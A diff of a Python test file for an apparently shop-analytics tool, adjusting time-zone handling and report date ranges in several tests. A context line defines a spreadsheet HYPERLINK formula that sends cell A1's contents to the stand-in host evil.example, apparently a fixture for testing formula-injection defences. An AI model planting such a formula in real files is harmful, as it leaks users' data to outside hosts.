@@ -8,10 +8,10 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"lamp")'
 VISITORS = 60
 
 
-def today():
-    """In Bucharest, where the shop's days are."""
-    import zoneinfo
-    return datetime.datetime.now(zoneinfo.ZoneInfo("Europe/Bucharest")).date()
+def noon_zone():
+    """A time zone in which no day ends soon: it is about noon there."""
+    hours = 12 - datetime.datetime.now(datetime.timezone.utc).hour
+    return f"{'-' if hours < 0 else '+'}{abs(hours):02}:00", datetime.timezone(datetime.timedelta(hours=hours))
 
 
 def report(p, name, **query):
@@ -94,9 +94,10 @@ class Story:
 def test_every_report_says_the_figures_known_beforehand():
     with running() as p:
         p.server.stop()
-        lib.run("stores", "settings", p.name, "holdout_percent=50", "--data", p.data)
+        name, zone = noon_zone()
+        lib.run("stores", "settings", p.name, "holdout_percent=50", f"time_zone={name}", "--data", p.data)
         p.server = lib.Server(p.data, port=p.server.port)
-        day = today()
+        day = datetime.datetime.now(zone).date()
         base_orders = report(p, "summary", **{"from": day, "to": day})["total"]
         s = Story(p)
         seen, held, clicked, ordered = len(s.seen), len(s.held), len(s.clicked), len(s.ordered)
@@ -221,13 +222,13 @@ def test_days_are_the_shop_s_own_where_summer_time_begins_and_ends():
 
 def test_what_is_bought_together_is_a_map():
     with running() as p:
-        answer = report(p, "affinity", **{"from": "2025-11-22", "min_orders": 1, "limit": 5000})
+        answer = report(p, "affinity", **{"from": "2025-11-22", "to": "2026-11-21", "min_orders": 1, "limit": 5000})
         baskets = []
         for o in p.shop.rows["orders"].values():
             if o["status"] not in ("cancelled", "failed", "refunded", "pending", "trash", "checkout-draft"):
                 baskets.append(({str(x["product_id"]) for x in o["line_items"]}, o["date_created_gmt"]))
-        begin = (datetime.datetime.fromisoformat("2025-11-22") - datetime.timedelta(hours=2)).isoformat()
-        baskets = [b for b, at in baskets if at >= begin and b]
+        begin, end = ((datetime.datetime.fromisoformat(day) - datetime.timedelta(hours=2)).isoformat() for day in ("2025-11-22", "2026-11-22"))
+        baskets = [b for b, at in baskets if begin <= at < end and b]
         pairs = {}
         for b in baskets:
             for x in b:
